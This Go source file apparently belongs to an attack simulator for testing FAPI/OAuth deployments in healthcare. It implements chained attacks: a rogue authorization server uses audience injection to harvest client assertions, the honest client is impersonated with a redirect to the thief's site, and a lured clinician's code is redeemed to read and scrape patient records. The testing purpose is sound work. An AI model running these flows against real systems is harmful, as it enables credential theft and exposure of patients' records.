package attacker

import (
	"context"
	"net/http"
	"net/url"
	"strings"
	"time"

	"thiefbox/sim/fapi"
)

// The chains (family CH) are several blocks one after the other, as somebody would go about it who wants to
// get somewhere. Each has a file that begins with chain. What more than one of them does is here.

// IsChain tells whether a technique is several blocks one after the other.
func (t Technique) IsChain() bool { return strings.HasPrefix(t.ID, "CH-") }

// harvester is the thief's authorization server with audience injection: whatever the honest client sends
// there to prove who it is, it addresses to the honest server.
type harvester struct{ *rogue }

func newHarvester(ctx context.Context, g Ground) (*harvester, error) {
	honest, err := discover(ctx, g, g.Target().Issuer)
	if err != nil {
		return nil, err
	}
	h := &harvester{newRogue(g)}
	h.meta.TokenEndpoint = honest.TokenEndpoint // the injection
	h.open()
	return h, nil
}

// assertion has a clinician begin a sign-in at the thief's server, and returns the client assertion that comes
// of it, unused.
func (h *harvester) assertion() (string, error) {
	if err := h.g.LureAndInterrupt(h.g.Target().ClientLogin + h.meta.Issuer); err != nil {
		return "", err
	}
	if a := h.lastPushed().Get("client_assertion"); a != "" {
		return a, nil
	}
	return "", ErrStopped
}

// as presents an assertion with a request, as somebody who has no key to make another.
func as(assertion string) func(*http.Request, url.Values) {
	return func(_ *http.Request, form url.Values) { addAssertion(form, assertion) }
}

// posing is an app that goes by the honest client's name.
func posing(ctx context.Context, g Ground, redirectURI string) (*app, error) {
	c := noCredentials
	c.ClientID, c.RedirectURI = g.Target().ClientID, redirectURI
	return newApp(ctx, g, c)
}

// pushedElsewhere pushes a request in the honest client's name whose answer goes to the thief's site, has a
// clinician follow the link, redeems her code, and reads one of her patients' records. It takes an assertion
// to push with and one to redeem with.
func pushedElsewhere(ctx context.Context, g Ground, push, redeem string) error {
	s := newSite(g)
	a, err := posing(ctx, g, s.url+"/callback")
	if err != nil {
		return err
	}
	verifier := g.Random()
	uri, err := a.push(ctx, url.Values{
		"response_type": {"code"}, "client_id": {a.creds.ClientID}, "redirect_uri": {a.creds.RedirectURI}, "scope": {"openid user/*.rs"},
		"state": {g.Random()}, "nonce": {g.Random()}, "code_challenge": {fapi.Hash(verifier)}, "code_challenge_method": {"S256"},
	}, as(push))
	if err != nil {
		return err
	}
	if err := g.Lure(a.front(uri)); err != nil {
		return err
	}
	code := s.code()
	if code == "" {
		return ErrStopped
	}
	t, err := a.token(ctx, url.Values{
		"grant_type": {"authorization_code"}, "code": {code}, "redirect_uri": {a.creds.RedirectURI}, "code_verifier": {verifier},
	}, as(redeem))
	if err != nil {
		return err
	}
	_, err = a.read(ctx, record(g, stranger(g)), t)
	return err
}

// scrape reads one record after the other, until the API no longer answers.
func (a *app) scrape(ctx context.Context, t fapi.TokenResponse) error {
	const enough = 5 // to show that nothing stops him
	for _, p := range a.g.Target().Patients[:min(enough, len(a.g.Target().Patients))] {
		if ans, err := a.read(ctx, record(a.g, p), t); err != nil || !ans.ok() {
			return err
		}
	}
	return nil
}

// untilRefused tries at once, and then after one, five and ten minutes, until the API no longer answers.
func untilRefused(g Ground, try func() (answer, error)) error {
	for _, wait := range []time.Duration{0, time.Minute, 4 * time.Minute, 5 * time.Minute} {
		g.Wait(wait)
		if ans, err := try(); err != nil || !ans.ok() {
			return err
		}
	}
	return nil
}
